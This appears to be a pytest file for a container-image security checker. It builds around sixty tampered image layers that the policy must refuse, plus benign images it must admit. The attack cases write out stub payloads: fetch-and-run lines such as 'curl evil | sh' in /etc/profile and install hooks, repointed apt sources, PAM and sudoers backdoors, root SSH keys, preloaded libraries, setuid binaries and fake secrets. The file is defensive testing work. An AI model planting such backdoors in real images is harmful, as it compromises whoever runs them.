"""Attacks in layers and config, one case each: what is built, and which rule must answer.

Every image is built, read by the real reader, and judged by the built-in policy on a trusted base.
The last table holds what must pass: a refusal there is a false one.
"""

import pytest
from tests.unit.attacks.world import Deb, Files, World, installed

from layerproof.model.finding import Status
from layerproof.testing.images import (
    BuiltImage,
    Device,
    Dir,
    File,
    Hardlink,
    Opaque,
    Symlink,
    Whiteout,
    build,
    layer,
)

ELF = b"\x7fELF" + bytes(60)
TOKEN = "gh" + "p_" + "a1B2c3D4e5" * 4
KEY = "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n"
LOGIN = Deb("login", "1:4.13", {"usr/bin/login": b"login", "usr/bin/su": b"su"})
BASH = Deb("bash", "5.2", {"usr/bin/bash": b"bash", "usr/bin/ls": b"ls"})
LIBC = Deb(
    "libc6",
    "2.36",
    {
        "usr/lib/x86_64-linux-gnu/libc.so.6": b"libc",
        "usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2": b"ld",
    },
    conffiles={"etc/ld.so.conf": b"include /etc/ld.so.conf.d/*.conf\n"},
    scripts={"postinst": b"#!/bin/sh\nldconfig\n"},
)
SYSTEM: Files = {
    **installed(LOGIN, BASH, LIBC),
    "bin": Symlink("usr/bin"),
    "lib": Symlink("usr/lib"),
    "usr/bin/su": File(b"su", mode=0o4755),
    "etc/passwd": "root:x:0:0::/root:/bin/sh\n",
    "etc/shadow": File(b"root:!:1::::::\n", mode=0o640),
    "etc/group": "root:x:0:\n",
    "etc/sudoers.d/README": "#\n",
    "etc/pam.d/common-auth": "auth required pam_unix.so\n",
    "etc/ssh/sshd_config": "PermitRootLogin no\n",
    "etc/ssl/certs/ca.pem": "-----BEGIN CERTIFICATE-----\n",
    "etc/apt/sources.list": "deb https://deb.example stable main\n",
    "etc/profile": "umask 022\n",
    "etc/os-release": "ID=debian\nVERSION_ID=12\n",
    "root": Dir(mode=0o700),
    "tmp": Dir(mode=0o1777),
    "usr/local/bin": Dir(),
}
BASE = build([SYSTEM, {"etc/hardened": "yes\n"}], env=["PATH=/usr/local/bin:/usr/bin"], user="app")
MODES = {"usr/bin/login": 0o755}


OLD_CERTIFICATES = build(
    [
        layer(
            installed(Deb("ca-certificates", "1", {})) | {"etc/ssl/certs/ca.pem": "x"},
            created_by="RUN certificates",
        )
    ]
)


def attack(files: Files, **config: object) -> BuiltImage:
    made = layer(files, created_by="RUN attack")
    return build([made], base=BASE, **config)  # type: ignore[arg-type]


def forged(package: Deb, **more: bytes) -> Files:
    """The package as the layer tells it, with other files than it brings."""
    return {**installed(package, BASH, LIBC, new=[package.name]), **more}


# name → image, rule that must fail
ATTACKS: dict[str, tuple[BuiltImage, str]] = {
    # what is taken away
    "whiteout of /etc/shadow": (attack({"etc/shadow": Whiteout()}), "protected-path"),
    "opaque /usr": (attack({"usr": Opaque()}), "protected-path"),
    "opaque /etc": (attack({"etc": Opaque(), "etc/passwd": "x"}), "protected-path"),
    "whiteout of the folder /etc/pam.d": (attack({"etc/pam.d": Whiteout()}), "protected-path"),
    "whiteout of the C library": (
        attack({"usr/lib/x86_64-linux-gnu/libc.so.6": Whiteout()}),
        "protected-path",
    ),
    "a file where /etc was": (attack({"etc": "gone"}), "protected-path"),
    # what is exchanged
    "replaced /etc/passwd": (attack({"etc/passwd": "evil::0:0::/:/bin/sh\n"}), "protected-path"),
    "replaced /usr/bin/login": (attack({"usr/bin/login": File(ELF, mode=0o755)}), "protected-path"),
    "replaced login by the name of before /usr was merged": (
        attack({"bin": Dir(), "bin/login": File(ELF, mode=0o755)}),
        "protected-path",
    ),
    "a package's file with other contents": (
        attack({"usr/bin/bash": File(ELF, mode=0o755)}),
        "altered-package-file",
    ),
    "replaced dynamic loader": (
        attack({"usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2": File(ELF, mode=0o755)}),
        "protected-path",
    ),
    "replaced certificate store": (attack({"etc/ssl/certs/ca.pem": "evil"}), "protected-path"),
    "replaced package sources": (
        attack({"etc/apt/sources.list": "deb http://evil.example x main\n"}),
        "protected-path",
    ),
    "replaced PAM configuration": (
        attack({"etc/pam.d/common-auth": "auth sufficient pam_permit.so\n"}),
        "protected-path",
    ),
    "replaced sshd_config": (
        attack({"etc/ssh/sshd_config": "PermitRootLogin yes\n"}),
        "protected-path",
    ),
    "replaced /etc/profile": (attack({"etc/profile": "curl evil | sh\n"}), "protected-path"),
    "replaced os-release": (attack({"etc/os-release": "ID=alpine\n"}), "protected-path"),
    # what leads elsewhere
    "symlinked /bin": (attack({"bin": Symlink("/tmp/bin")}), "protected-path"),
    "symlinked /usr/bin": (attack({"usr/bin": Symlink("/srv/bin")}), "protected-path"),
    "symlinked /lib": (attack({"lib": Symlink("/srv/lib")}), "protected-path"),
    "/etc/shadow as a link": (attack({"etc/shadow": Symlink("/tmp/shadow")}), "protected-path"),
    "hard link to a lower setuid file": (
        attack({"srv/su": Hardlink("usr/bin/su")}),
        "protected-path",
    ),
    "hard link to /etc/shadow": (attack({"srv/s": Hardlink("etc/shadow")}), "protected-path"),
    # rights
    "chmod u+s of a program": (
        attack({"usr/bin/bash": File(b"bash", mode=0o4755)}),
        "protected-path",
    ),
    "new setuid program": (attack({"srv/x": File(ELF, mode=0o4755)}), "protected-path"),
    "new setgid program": (attack({"srv/x": File(ELF, mode=0o2755)}), "protected-path"),
    "capability attribute": (
        attack({"srv/x": File(ELF, mode=0o755, xattrs={"security.capability": bytes(20)})}),
        "protected-path",
    ),
    "device node": (attack({"srv/mem": Device("c", 1, 1)}), "protected-path"),
    "/etc/shadow readable for all": (
        attack({"etc/shadow": File(b"root:!:1::::::\n", mode=0o644)}),
        "protected-path",
    ),
    "/etc owned by another": (attack({"etc": Dir(uid=1000)}), "protected-path"),
    "/usr/local/bin writable for all": (
        attack({"usr/local/bin": Dir(mode=0o777)}),
        "protected-path",
    ),
    # what is found first
    "/usr/local/bin/ls before /usr/bin/ls": (
        attack({"usr/local/bin/ls": File(b"#!/bin/sh\n", mode=0o755)}),
        "protected-path",
    ),
    "a command before one that is written again as it was": (
        attack({
            "usr/bin/ls": File(b"ls", mode=0o755),
            "usr/local/bin/ls": File(b"#!/bin/sh\n", mode=0o755),
        }),
        "protected-path",
    ),
    "a library before the system's": (
        attack({"usr/local/lib/x86_64-linux-gnu/libc.so.6": ELF}),
        "protected-path",
    ),
    "/etc/ld.so.preload": (attack({"etc/ld.so.preload": "/srv/evil.so\n"}), "protected-path"),
    "new folder in the library search": (
        attack({"etc/ld.so.conf.d/evil.conf": "/srv/lib\n"}),
        "protected-path",
    ),
    # who may come in
    "sudoers for all": (attack({"etc/sudoers.d/x": "ALL ALL=NOPASSWD: ALL\n"}), "protected-path"),
    "authorized_keys of root": (
        attack({"root/.ssh/authorized_keys": "ssh-ed25519 AAAA evil\n"}),
        "protected-path",
    ),
    ".rhosts of root": (attack({"root/.rhosts": "+ +\n"}), "protected-path"),
    # what nobody owns
    "a program that no package owns": (
        attack({"usr/bin/miner": File(ELF, mode=0o755)}),
        "foreign-executable",
    ),
    "a hard link to a program among the applications": (
        attack({"srv/x": File(ELF, mode=0o755), "usr/bin/x": Hardlink("srv/x")}),
        "foreign-executable",
    ),
    "an install script that is a hard link": (
        attack({
            "srv/x": File(b"#!/bin/sh\n", mode=0o755),
            "var/lib/dpkg/info/libc6.prerm": Hardlink("srv/x"),
        }),
        "package-script",
    ),
    "Python start-up code that is a link": (
        attack({"srv/x": "import os\n", "usr/lib/python3/dist-packages/x.pth": Symlink("/srv/x")}),
        "package-script",
    ),
    "a script for cron": (
        attack({"etc/cron.hourly/x": File(b"#!/bin/sh\n", mode=0o755)}),
        "foreign-executable",
    ),
    "a program in /tmp": (attack({"tmp/.x": File(ELF, mode=0o755)}), "foreign-executable"),
    "a library without execute bit": (
        attack({"usr/lib/x86_64-linux-gnu/libevil.so": ELF}),
        "foreign-executable",
    ),
    # package databases
    "install script that nobody has seen": (
        attack(
            installed(
                LOGIN, BASH, LIBC,
                Deb("evil", "1", {"usr/share/e": b"e"}, scripts={"postinst": b"curl x | sh"}),
                new=["evil"],
            )
        ),
        "package-script",
    ),
    "another postinst for a package of the base": (
        attack({"var/lib/dpkg/info/libc6.postinst": File(b"#!/bin/sh\nevil\n", mode=0o755)}),
        "package-script",
    ),
    "npm hook": (
        attack({"app/node_modules/a/package.json":
                '{"name":"a","version":"1","scripts":{"postinstall":"curl x | sh"}}'}),
        "package-script",
    ),
    "Python start-up code": (
        attack({"usr/lib/python3/dist-packages/x.pth": "import os; os.system('x')\n"}),
        "package-script",
    ),
    "a database that claims an upgrade without the files": (
        attack({
            **LOGIN.but(version="1:9", files={"usr/bin/login": b"fixed"}).database,
            "var/lib/dpkg/status": LOGIN.but(version="1:9").stanza,
        }),
        "altered-package-file",
    ),
    "an upgrade with a back door beside": (
        attack({
            **forged(LOGIN.but(version="1:9", files={"usr/bin/login": b"9", "usr/bin/su": b"9"})),
            "usr/bin/su": File(b"back door", mode=0o755),
        }),
        "protected-path",
    ),
    "checksums rewritten at the same version": (
        attack(forged(LOGIN.but(files={"usr/bin/login": b"evil", "usr/bin/su": b"su"}))),
        "protected-path",
    ),
    "a new package that claims another's file": (
        attack(
            installed(
                LOGIN, BASH, LIBC, Deb("evil", "1", {"usr/bin/login": b"evil"}), new=["evil"]
            )
        ),
        "protected-path",
    ),
    "a new package that claims /etc/shadow": (
        attack(
            installed(LOGIN, BASH, LIBC, Deb("evil", "1", {"etc/shadow": b"root::"}), new=["evil"])
        ),
        "protected-path",
    ),
    "a list of files without a package": (
        attack({
            "var/lib/dpkg/info/evil.list": "/usr/bin/miner\n",
            "usr/bin/miner": File(ELF, mode=0o755),
        }),
        "foreign-executable",
    ),
    "a RECORD that claims programs of the system": (
        attack({
            "srv/x-1.dist-info/RECORD": "../usr/bin/miner,,\n",
            "srv/x-1.dist-info/METADATA": "Name: x\nVersion: 1\n",
            "usr/bin/miner": File(ELF, mode=0o755),
        }),
        "foreign-executable",
    ),
    "another CA beside a version that only the status claims": (
        build(
            [{
                **installed(Deb("ca-certificates", "2", {}), new=[]),
                "etc/ssl/certs/ca.pem": "evil",
            }],
            base=OLD_CERTIFICATES,
        ),
        "protected-path",
    ),
    "an upgrade of a program that another hides": (
        attack({
            **forged(LOGIN.but(version="1:9", files={"usr/bin/login": b"9", "usr/bin/su": b"su"})),
            "usr/bin/su": File(b"su", mode=0o4755),
            "usr/local/bin/login": File(ELF, mode=0o755),
        }),
        "protected-path",
    ),
    "an upgrade that everybody may overwrite": (
        attack({
            **forged(LOGIN.but(version="1:9", files={"usr/bin/login": b"9", "usr/bin/su": b"su"})),
            "usr/bin/su": File(b"su", mode=0o4755),
            "usr/bin/login": File(b"9", mode=0o777),
        }),
        "protected-path",
    ),
    "an upgrade that belongs to somebody else": (
        attack({
            **forged(LOGIN.but(version="1:9", files={"usr/bin/login": b"9", "usr/bin/su": b"su"})),
            "usr/bin/su": File(b"su", mode=0o4755),
            "usr/bin/login": File(b"9", mode=0o755, uid=1000),
        }),
        "protected-path",
    ),
    "an upgrade that gains setuid": (
        attack({
            **forged(LOGIN.but(version="1:9", files={"usr/bin/login": b"9", "usr/bin/su": b"su"})),
            "usr/bin/login": File(b"9", mode=0o4755),
        }),
        "protected-path",
    ),
    # secrets
    "private key in a layer": (attack({"srv/key.pem": KEY}), "secret"),
    "token in a file that a later layer deletes": (
        build([{"srv/.env": f"T={TOKEN}\n"}, {"srv/.env": Whiteout()}], base=BASE),
        "secret",
    ),
    "token in the environment": (attack({}, env=[f"TOKEN={TOKEN}"]), "secret"),
    # config
    "LD_PRELOAD in the config": (attack({}, env=["LD_PRELOAD=/srv/x.so"]), "image-config"),
    "LD_AUDIT in the config": (attack({}, env=["LD_AUDIT=/srv/x.so"]), "image-config"),
    "BASH_ENV in the config": (attack({}, env=["BASH_ENV=/srv/x"]), "image-config"),
    "/tmp in PATH": (attack({}, env=["PATH=/tmp:/usr/bin"]), "image-config"),
    "relative folder in PATH": (attack({}, env=["PATH=.:/usr/bin"]), "image-config"),
    "volume over /etc": (
        attack({}, config_extra={"config": {"Volumes": {"/etc": {}}, "User": "app"}}),
        "image-config",
    ),
    # claims
    "label of a base that is not below": (
        build(
            [{"etc/os-release": "ID=evil\n"}],
            labels={"org.opencontainers.image.base.digest": BASE.manifest_digest},
        ),
        "lying-base-label",
    ),
}  # fmt: skip


def a_world() -> World:
    world = World()
    world.trust(BASE)
    world.trust(OLD_CERTIFICATES, "docker://registry.example/certificates:1")
    return world


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_refused(name: str) -> None:
    image, rule = ATTACKS[name]
    judged = a_world().judge(image)
    assert judged.decision == "refuse"
    assert rule in judged.rules(status=Status.FAIL)


# --- what must pass ------------------------------------------------------------------------------

NEWER = LOGIN.but(version="1:4.14", files={"usr/bin/login": b"4.14", "usr/bin/su": b"su"})
MERGED = installed(NEWER, BASH, LIBC, new=["login"]) | {"usr/bin/su": File(b"su", mode=0o4755)}
TOOL = Deb("tool", "1", {"usr/bin/tool": b"tool"})
SITE = "usr/local/lib/python3.11/site-packages"
HONEST: dict[str, BuiltImage] = {
    "an application": attack({"srv/app.py": File(b"#!/usr/bin/python3\n", mode=0o755)}),
    "a package upgrade that is legitimate": attack(MERGED),
    "a new package": attack(installed(LOGIN, BASH, LIBC, TOOL, new=["tool"])),
    "a rebuild of identical content": attack(
        {
            "etc/passwd": "root:x:0:0::/root:/bin/sh\n",
            "etc/shadow": File(b"root:!:1::::::\n", mode=0o640),
            "usr/bin/login": File(b"login", mode=0o755),
        }
    ),
    "pip packages": attack(
        {
            f"{SITE}/flask/__init__.py": "x = 1\n",
            f"{SITE}/flask-3.dist-info/METADATA": "Name: flask\nVersion: 3\n",
            "usr/local/bin/flask": File(b"#!/usr/bin/python3\n", mode=0o755),
        }
    ),
    "npm packages": attack(
        {
            "srv/node_modules/express/package.json": '{"name":"express","version":"4"}',
            "srv/node_modules/express/cli.js": File(b"#!/usr/bin/env node\n", mode=0o755),
        }
    ),
    "chown -R of an application": build(
        [{"srv/app": "app"}, {"srv": Dir(uid=1000), "srv/app": File(b"app", uid=1000)}], base=BASE
    ),
    "a folder of one's own in /etc": attack({"etc/app/app.conf": "x=1\n"}),
    "removed documentation": attack({"usr/share/doc": Whiteout()}),
    "a compressed layer of nothing": attack({}),
    "the trusted image itself": BASE,
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_image_is_admitted(name: str) -> None:
    judged = a_world().judge(HONEST[name])
    assert (judged.decision, judged.rules(), judged.rules(status=Status.UNKNOWN)) == (
        "admit",
        set(),
        set(),
    )


def test_there_are_at_least_sixty_attacks() -> None:
    assert len(ATTACKS) >= 60
